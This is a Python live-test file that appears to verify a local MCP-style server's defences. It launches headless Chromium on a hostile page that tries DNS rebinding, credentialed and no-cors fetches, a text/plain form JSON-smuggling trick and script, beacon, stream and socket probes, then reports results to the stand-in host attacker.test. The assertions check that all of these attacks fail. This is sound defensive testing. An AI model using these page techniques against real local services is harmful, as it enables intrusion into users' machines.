"""A web page in a real browser of this host, hostile: it gets nothing done and learns nothing but that a port is open.

DNS rebinding is done for real: the page's own name leads to the server's address. The page is even given a valid
credential, so that each defence is seen to hold without the next one.
"""

import json
import os
import select
import shutil
import signal
import socket
import socketserver
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.contract.bad_input import HTTP, credential, private_world, stored
from tests.contract.wires import tcp
from tests.live.world import World

BROWSERS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
BROWSER = os.environ.get("PEERWAKE_BROWSER") or next(filter(None, map(shutil.which, BROWSERS)), None)
pytestmark = [
    pytest.mark.live,
    pytest.mark.skipif(
        BROWSER is None or sys.platform != "linux",
        reason="NOT TESTED: attacks of web pages; no Chromium on Linux here (PEERWAKE_BROWSER names one)",
    ),
]

ATTACKER = "attacker.test"
ADDRESS = "127.0.0.2"
SECONDS = 150.0
QUIET = (
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync"),
    *("--disable-background-networking", "--disable-component-update", "--disable-extensions", "--no-proxy-server"),
    *("--disable-dev-shm-usage", "--password-store=basic"),
)
PAGE = """<!doctype html><meta charset="utf-8"><body><script>
const port = %(port)d, token = %(token)s, body = %(body)s, seen = {};
const wait = (ms) => new Promise((done) => setTimeout(() => done("nothing in time"), ms));
const tried = async (name, work) => {
  try { seen[name] = await Promise.race([work(), wait(6000)]); } catch (error) { seen[name] = "threw " + error.name; }
};
const got = async (url, options) => {
  const answer = await fetch(url, options);
  return {type: answer.type, status: answer.status, text: await answer.text()};
};
const json = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"};
const loaded = (tag, url) => new Promise((done) => {
  const element = document.createElement(tag);
  element.onload = () => done("loaded"); element.onerror = () => done("failed");
  element.src = url; document.body.append(element);
});
const posted = (url, type) => new Promise((done) => {
  const frame = document.createElement("iframe"), form = document.createElement("form"),
    field = document.createElement("input");
  frame.name = "frame" + Math.random(); form.target = frame.name; form.method = "POST"; form.enctype = type;
  form.action = url;
  // text/plain writes name=value: the end of the JSON goes into a string of its own.
  field.name = body.slice(0, -1) + ',"x":"'; field.value = '"}'; form.append(field);
  frame.onload = () => {
    let found = "hidden";
    try { found = frame.contentDocument.body.innerText; } catch (error) { found = "hidden by " + error.name; }
    if (found) done(found);
  };
  document.body.append(frame, form); form.submit();
});
const stream = (url) => new Promise((done) => {
  const source = new EventSource(url);
  source.onopen = () => done("opened"); source.onmessage = (event) => done(event.data);
  source.onerror = () => { if (source.readyState === 2) done("refused"); };
});
const socket = (url) => new Promise((done) => {
  const made = new WebSocket(url); made.onopen = () => done("opened"); made.onerror = () => done("refused");
});
(async () => {
  for (const [name, host] of [["rebound", location.hostname], ["crossed", "127.0.0.1"], ["named", "localhost"]]) {
    const base = "http://" + host + ":" + port, own = {Authorization: "Bearer " + token};
    await tried(name + " call", () => got(base + "/mcp", {method: "POST", headers: {...json, ...own}, body}));
    await tried(name + " bare call", () => got(base + "/mcp", {method: "POST", headers: json, body}));
    await tried(name + " read", () => got(base + "/mcp", {headers: own}));
    await tried(name + " stream", () => got(base + "/sse", {headers: own}));
    await tried(name + " simple", () => got(base + "/mcp", {method: "POST", body}));
    await tried(name + " blind", () => got(base + "/mcp", {method: "POST", mode: "no-cors", body}));
    await tried(name + " blind read", () => got(base + "/sse", {mode: "no-cors"}));
    await tried(name + " beacon", async () => navigator.sendBeacon(base + "/messages", new Blob([body])));
    await tried(name + " image", () => loaded("img", base + "/mcp"));
    await tried(name + " script", () => loaded("script", base + "/mcp?callback=steal"));
    await tried(name + " form", () => posted(base + "/mcp", "text/plain"));
    await tried(name + " encoded form", () => posted(base + "/messages", "application/x-www-form-urlencoded"));
    await tried(name + " events", () => stream(base + "/sse"));
    await tried(name + " socket", () => socket("ws://" + host + ":" + port + "/mcp"));
  }
  await fetch("%(report)s", {method: "POST", mode: "no-cors", body: JSON.stringify(seen)});
})();
</script>"""


class Site(ThreadingHTTPServer):
    """Where the page sends its report."""

    def __init__(self) -> None:
        super().__init__((ADDRESS, 0), Handler)
        self.report: dict[str, Any] = {}
        self.has_report = threading.Event()


class Handler(BaseHTTPRequestHandler):
    server: Site

    def do_POST(self) -> None:
        self.server.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.send_response(204)
        self.end_headers()
        self.server.has_report.set()

    def log_message(self, format: str, *words: object) -> None:
        pass


class Name(socketserver.ThreadingTCPServer):
    """The address of the attacker's name, at the server's port: first the page, from then on the server itself."""

    allow_reuse_address = True
    daemon_threads = True
    page = b""

    def __init__(self, port: int) -> None:
        super().__init__((ADDRESS, port), Rebinding)
        self.port = port


class Rebinding(socketserver.BaseRequestHandler):
    server: Name

    def handle(self) -> None:
        browsers: socket.socket = self.request
        first = browsers.recv(65536)
        if first.startswith((b"GET / ", b"GET /favicon")):
            head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(self.server.page)}\r\n"
            browsers.sendall(head.encode() + b"Connection: close\r\n\r\n" + self.server.page)
            return
        with socket.create_connection(("127.0.0.1", self.server.port)) as servers:
            servers.sendall(first)
            ends = {browsers: servers, servers: browsers}
            while True:
                for ready in select.select(list(ends), [], [])[0]:
                    data = ready.recv(65536)
                    if not data:
                        return
                    ends[ready].sendall(data)


@contextmanager
def serving(server: socketserver.BaseServer) -> Iterator[None]:
    """Serve in a thread for as long as the block runs."""
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield
    finally:
        server.shutdown()
        server.server_close()


@contextmanager
def browser(url: str) -> Iterator[None]:
    """Run a browser of its own on one page, for as long as the block runs; its whole process group ends with it."""
    assert BROWSER is not None
    with tempfile.TemporaryDirectory(prefix="pw-", dir="/tmp", ignore_cleanup_errors=True) as profile:
        argv = [BROWSER, *QUIET, f"--user-data-dir={profile}", f"--host-resolver-rules=MAP {ATTACKER} {ADDRESS}", url]
        env = os.environ | {"HOME": profile, "TMPDIR": profile}
        # DEVNULL, and no pipe: its helpers would hold it open.
        found = subprocess.Popen(argv, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, process_group=0)
        try:
            yield
        finally:
            os.killpg(found.pid, signal.SIGKILL)
            found.wait()


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    with private_world(**HTTP) as world:
        world.create("alice")
        world.create("bob")
        world.serve()
        yield world


@pytest.fixture(scope="module")
def report(world: World) -> dict[str, Any]:
    """Return what the page saw of each of its attacks."""
    arguments = {"personality": "alice", "message": "from a page", "wait_seconds": 0}
    params = {"name": "send_to_peer", "arguments": arguments}
    call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params}
    port = tcp(world).port
    site, name = Site(), Name(port)
    given = {
        "port": port,
        "token": json.dumps(credential(world, "scripted-bob")),
        "body": json.dumps(json.dumps(call)),
        "report": f"http://{ATTACKER}:{site.server_address[1]}/report",
    }
    name.page = (PAGE % given).encode()
    with serving(site), serving(name), browser(f"http://{ATTACKER}:{port}/"):
        assert site.has_report.wait(SECONDS), "the page did not report"
    return site.report


def test_nothing_a_page_sent_was_accepted(world: World, report: dict[str, Any]) -> None:
    assert stored(world) == []
    assert "ev=send" not in world.log("delivery")
    assert not list((world.root.run / "tmux").iterdir())


def test_a_name_rebound_to_this_machine_is_refused_though_the_credential_is_good(report: dict[str, Any]) -> None:
    for name in ("call", "bare call", "read", "stream", "simple"):
        answer = report[f"rebound {name}"]
        assert answer["status"] == 421, (name, answer)
        assert json.loads(answer["text"])["error"]["data"] == {"code": "bad-host"}


@pytest.mark.parametrize("where", ["crossed", "named"])
def test_another_origin_reads_nothing_and_may_not_call(report: dict[str, Any], where: str) -> None:
    for name in ("call", "bare call", "read", "stream", "simple"):
        assert report[f"{where} {name}"] == "threw TypeError", name
    for name in ("blind", "blind read"):
        assert report[f"{where} {name}"] in ({"type": "opaque", "status": 0, "text": ""}, "threw TypeError"), name


@pytest.mark.parametrize("where", ["rebound", "crossed", "named"])
def test_no_element_form_stream_or_socket_gets_in(report: dict[str, Any], where: str) -> None:
    for name in ("image", "script"):
        assert report[f"{where} {name}"] == "failed", name
    for name in ("events", "socket"):
        assert report[f"{where} {name}"] == "refused", name
    for name in ("form", "encoded form"):
        assert "bad-host" in report[f"{where} {name}"] or report[f"{where} {name}"].startswith("hidden"), name


def test_what_a_page_reads_names_no_peer_path_version_or_user(world: World, report: dict[str, Any]) -> None:
    text = json.dumps(report)
    for secret in ("alice", "bob", str(world.root.home), credential(world, "scripted-bob"), "version", "uvicorn"):
        assert secret not in text, secret
